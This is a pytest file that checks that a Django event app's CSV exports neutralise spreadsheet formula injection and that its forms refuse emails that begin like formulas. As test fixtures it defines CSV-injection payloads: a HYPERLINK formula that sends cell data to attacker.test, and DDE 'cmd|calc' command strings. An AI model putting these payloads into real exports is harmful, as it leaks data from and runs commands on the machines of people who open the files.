"""CSV downloads never run a formula, and no form takes an email that starts like one
(issue 10, finding 4). The members here come from older data (factories write them
directly), so the exports meet what the forms now refuse."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import pytest
from django.urls import reverse

from netweave.core.cells import FORMULA_START
from netweave.web.community.models import Member
from netweave.web.events.models import Registration
from netweave.web.matching.domain.storage import save_plan
from tests.web.factories import EventFactory, MemberFactory, example_plan, example_registrations

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://attacker.test/?d="&A1,"Click")'
EVIL_EMAIL = "=cmd|'/ccalc'!a0@attacker.test"
EVIL_REASON = "+cmd|' /C calc'!A0"


@pytest.fixture
def event(community):
    event = EventFactory(community=community, rounds=2)
    regs = example_registrations(event)
    Member.objects.filter(pk=regs[0].member_id).update(name=EVIL_NAME, email=EVIL_EMAIL)
    Member.objects.filter(pk=regs[1].member_id).update(name="-2+3", manages="@SUM(1+1)")
    for reg in regs:
        reg.member.refresh_from_db()
    plan = example_plan(regs)
    first = plan.rounds[0]
    meeting = dataclasses.replace(first.meetings[0], reasons=(EVIL_REASON, "@SUM(A1)"))
    rounds = (dataclasses.replace(first, meetings=(meeting, *first.meetings[1:])), plan.rounds[1])
    save_plan(event, dataclasses.replace(plan, rounds=rounds), note="Generated")
    return event


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _formulas(text: str) -> list[str]:
    return [c for c in _cells(text) if c.startswith(FORMULA_START)]


def _get(client, name: str, event) -> bytes:
    response = client.get(reverse(f"orga:{name}", args=[event.pk]))
    assert response.status_code == 200
    return response.content


def test_schedule_csv_runs_no_formula(orga_client, event):
    text = _get(orga_client, "export_schedule_csv", event).decode()
    assert _formulas(text) == []
    cells = _cells(text)
    assert "'" + EVIL_NAME in cells
    assert "'-2+3" in cells
    assert f"'{EVIL_REASON}; @SUM(A1)" in cells
    assert any(c.startswith("'" + EVIL_EMAIL) for c in cells)  # a partner's email column


def test_zoom_csvs_run_no_formula(orga_client, event):
    archive = zipfile.ZipFile(io.BytesIO(_get(orga_client, "export_zoom", event)))
    for name in archive.namelist():
        if name.endswith(".csv"):
            assert _formulas(archive.read(name).decode()) == [], name
    assert "'" + EVIL_EMAIL in _cells(archive.read("round-1.csv").decode())
    assert "'" + EVIL_EMAIL in _cells(archive.read("groups.csv").decode())


def test_groups_csv_runs_no_formula(orga_client, event):
    text = _get(orga_client, "export_groups", event).decode()
    assert _formulas(text) == []
    assert "'" + EVIL_EMAIL in _cells(text)


def test_member_export_runs_no_formula(orga_client, event, community):
    response = orga_client.get(reverse("orga:members_export", args=[community.pk]))
    text = b"".join(response.streaming_content).decode()
    assert _formulas(text) == []
    assert "'@SUM(1+1)" in _cells(text)


# --------------------------------------------------------------------------- refused at entry


def _register(client, event, **answers):
    data = {"name": "Eve", "email": EVIL_EMAIL, "timezone": "UTC", "mode": "live", **answers}
    url = reverse("portal:register", args=[event.community.slug, event.slug])
    return client.post(url, data)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_registration_refuses_an_email_that_starts_like_a_formula(client, start):
    event = EventFactory()
    response = _register(client, event, email=f"{start}cmd@attacker.test")
    assert response.status_code == 200
    errors = response.context["form"].errors["email"]
    assert any("run as a formula" in e for e in errors)
    assert not Member.objects.filter(community=event.community).exists()


def test_member_edit_refuses_an_email_that_starts_like_a_formula(orga_client, community):
    member = MemberFactory(community=community)
    data = {"name": "Ana", "email": EVIL_EMAIL, "timezone": "UTC"}
    response = orga_client.post(reverse("orga:member_edit", args=[member.pk]), data)
    assert response.status_code == 200
    assert any("run as a formula" in e for e in response.context["form"].errors["email"])
    member.refresh_from_db()
    assert member.email != EVIL_EMAIL


def test_walk_in_refuses_an_email_that_starts_like_a_formula(orga_client, community):
    event = EventFactory(community=community)
    url = reverse("orga:live_walk_in", kwargs={"event_pk": event.pk})
    response = orga_client.post(url, {"name": "Eve", "email": EVIL_EMAIL})
    assert response.status_code == 200
    errors = response.context["walk_in_form"].errors["email"]
    assert any("run as a formula" in e for e in errors)
    assert not Registration.objects.filter(event=event).exists()
